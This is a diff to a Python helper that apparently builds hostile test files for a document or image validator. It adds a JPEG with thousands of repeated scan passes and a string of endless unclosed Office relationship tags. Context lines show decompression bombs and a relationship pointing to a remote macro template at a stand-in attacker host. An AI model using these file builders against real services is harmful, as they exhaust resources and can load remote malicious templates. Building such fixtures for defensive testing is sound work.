@@ -92,6 +92,13 @@ def png_bomb(side=60_000):
     return b"\x89PNG\r\n\x1a\n" + header + rows + png_chunk(b"IEND", b"")
 
 
+def jpeg_of_many_passes(passes=2_000):
+    """One pass over all points, of a few bytes, again and again: each takes as long as a true one."""
+    honest = picture("JPEG", (2_000, 2_000), "L", progressive=True)
+    last = honest[honest.rindex(b"\xff\xda") : -2]
+    return honest[:-2] + last * passes + honest[-2:]
+
+
 def png_text_bomb():
     text = png_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(bytes(200 * 1024 * 1024), 9))
     honest = picture("PNG", (8, 8))
@@ -138,6 +145,11 @@ def encrypted_zip():
             content[position + offset] |= 1
             position = content.find(mark, position + 4)
     return bytes(content)
+
+
+def endless_relationships():
+    """Tags that never end: a search over the whole would begin anew at each of them."""
+    return "<Relationship TargetMode='External' " * 1_800
 
 
 def relationship(kind, target="https://evil.example/x.dotm"):
